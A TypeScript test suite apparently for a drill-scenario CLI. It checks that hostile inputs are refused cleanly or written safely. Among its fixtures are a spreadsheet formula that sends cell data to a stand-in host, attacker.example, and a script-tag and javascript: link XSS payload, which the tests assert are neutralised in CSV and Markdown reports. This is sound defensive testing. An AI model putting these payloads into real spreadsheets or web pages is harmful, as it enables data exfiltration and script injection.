import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { COUNT_LIMITS, TEXT_LIMITS } from '../../engine/format/limits.js';
import { MAX_NESTING } from '../../engine/validate/index.js';
import { miniText, miniWith, triggerChain } from '../helpers/hostile-inputs.js';
import { runCli, STACK_TRACE } from '../engine/validate/helpers.js';

// The bad-input suite of issue 11: every hostile input it names, through the command line as a
// user would give it. Each is refused with one located line, or accepted and written safely;
// none stalls or crashes. Each test bounds its time ({ timeout }) and the process's peak memory
// as generous guards against the quadratic or unbounded code coming back: not speed targets.

/** Peak resident memory of this test process, in kilobytes: a guard, far above what any case needs. */
const PEAK_RSS_KB = 2_500_000;
const GUARD = { timeout: 120_000 };

const dir = mkdtempSync(join(tmpdir(), 'firedrill-hostile-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const write = (name: string, text: string) => {
  writeFileSync(join(dir, name), text);
  return name;
};
beforeAll(() => {
  write('mini.plan.yaml', miniText('plan'));
  write('mini.scenario.yaml', miniText('scenario'));
});

const cli = (...argv: string[]) => runCli(argv, dir);

/** `validate` of one scenario (with the mini plan): exit 1, and the one located line it prints. */
async function refusedScenario(name: string, text: string): Promise<string> {
  write(name, text);
  const { code, stdout, stderr } = await cli('validate', name, 'mini.plan.yaml');
  expect(code).toBe(1);
  expect(stderr).toBe('');
  expect(stdout + stderr).not.toMatch(STACK_TRACE);
  expect(process.resourceUsage().maxRSS).toBeLessThan(PEAK_RSS_KB);
  const lines = stdout.split('\n').filter((line) => line.startsWith(`  ${name}:`));
  expect(lines, stdout).toHaveLength(1);
  return lines[0]!.trim();
}

describe('refused with one located line', () => {
  it('a scenario title of 100,000 "A"s', GUARD, async () => {
    const line = await refusedScenario('long-title.scenario.yaml', miniWith('scenario', (s) => void (s.title = 'A'.repeat(100_000))));
    expect(line).toMatch(/^long-title\.scenario\.yaml:\d+:8 title: is too long: 100,000 characters, at most 200 here$/);
  });

  it('an inject body of one 1,900,000-character word', GUARD, async () => {
    const line = await refusedScenario('long-word.scenario.yaml', miniWith('scenario', (s) => void (s.injects[0]!.body = 'W'.repeat(1_900_000))));
    expect(line).toMatch(/ injects\[0\]\.body: is too long: 1,900,000 characters, at most 20,000 here$/);
  });

  it('20,000 injects each waiting for the next', GUARD, async () => {
    const line = await refusedScenario('chain.scenario.yaml', triggerChain(20_000));
    expect(line).toMatch(/ injects: has too many items: 20,008, at most 2,000 here$/);
  });

  it('an absurd duration', GUARD, async () => {
    const line = await refusedScenario('absurd.scenario.yaml', miniWith('scenario', (s) => void (s.injects[1]!.at = '99999999999999999999h')));
    expect(line).toMatch(/ injects\[1\]\.at: "99999999999999999999h" is longer than 365 days, the longest a drill can use$/);
  });

  it('nesting 100,000 levels deep', GUARD, async () => {
    const line = await refusedScenario('deep.scenario.yaml', miniText('scenario').replace('title: A leaked access key', `title: ${'['.repeat(100_000)}`));
    expect(line).toMatch(new RegExp(`^deep\\.scenario\\.yaml:4:\\d+ the YAML is nested more than ${MAX_NESTING} levels deep here$`));
  });

  it('CR-only line endings', GUARD, async () => {
    const line = await refusedScenario('classic-mac.scenario.yaml', miniText('scenario').replace(/\n/g, '\r'));
    expect(line).toMatch(/^classic-mac\.scenario\.yaml:1:\d+ a line ends here in a carriage return \(CR\) alone: save the file with LF or CRLF line endings$/);
  });
});

describe('accepted, and written safely', () => {
  const FORMULA = '=HYPERLINK("https://attacker.example/?d="&A1,"details")';
  const HTML = '<script>alert(1)</script> [link](javascript:alert(1))';
  const WORD = 'X'.repeat(TEXT_LIMITS.note);
  let journal = '';

  beforeAll(async () => {
    const script = miniWith('script', (s) => {
      // The mini script's release of INJ-07 comes after it has fired in play: left out.
      const steps = (s.steps as Record<string, unknown>[]).filter((step) => step.releaseInject === undefined);
      const end = steps.pop()!;
      for (const [i, text] of [FORMULA, HTML, WORD].entries()) steps.push({ at: `1h1${i}m30s`, by: 'facilitator', observation: { text, tag: 'improvement' } });
      steps.push(end);
      s.steps = steps;
    });
    write('hostile.script.yaml', script);
    const { code, stderr } = await cli('run', 'mini.scenario.yaml', '--plan', 'mini.plan.yaml', '--script', 'hostile.script.yaml', '--journal', 'hostile.jsonl');
    expect(stderr).toBe('');
    expect(code).toBe(0);
    journal = 'hostile.jsonl';
  }, GUARD.timeout);

  const report = async (format: string) => {
    const out = `hostile.${format}`;
    const { code, stderr } = await cli('report', journal, '--format', format, '--out', out, '--scenario', 'mini.scenario.yaml', '--plan', 'mini.plan.yaml');
    expect(stderr).not.toMatch(STACK_TRACE);
    expect(code, stderr).toBe(0);
    expect(process.resourceUsage().maxRSS).toBeLessThan(PEAK_RSS_KB);
    return readFileSync(join(dir, out));
  };

  it('formula cells: the CSV makes them text', GUARD, async () => {
    const csv = (await report('csv')).toString('utf8');
    expect(csv).toContain(`"'=HYPERLINK(""https://attacker.example/?d=""&A1,""details"")"`);
    expect(csv.split('\n').some((line) => /(^|,)"?[=+\-@]/.test(line))).toBe(false);
  });

  it('raw HTML: the Markdown shows it as text', GUARD, async () => {
    const md = (await report('md')).toString('utf8');
    expect(md).toContain('\\<script\\>alert(1)\\</script\\> \\[link\\](javascript:alert(1))');
    expect(md).not.toMatch(/(?<!\\)<script/);
  });

  it(`a ${TEXT_LIMITS.note.toLocaleString('en')}-character word in an observation: the PDF`, GUARD, async () => {
    const pdf = await report('pdf');
    expect(pdf.subarray(0, 5).toString('latin1')).toBe('%PDF-');
  });

  it(`the longest trigger chain accepted (${COUNT_LIMITS.injects.toLocaleString('en')} injects) validates`, GUARD, async () => {
    write('longest.scenario.yaml', triggerChain(COUNT_LIMITS.injects - 8));
    const { code, stdout } = await cli('validate', 'longest.scenario.yaml', 'mini.plan.yaml');
    expect(code, stdout).toBe(0);
    expect(process.resourceUsage().maxRSS).toBeLessThan(PEAK_RSS_KB);
  });
});
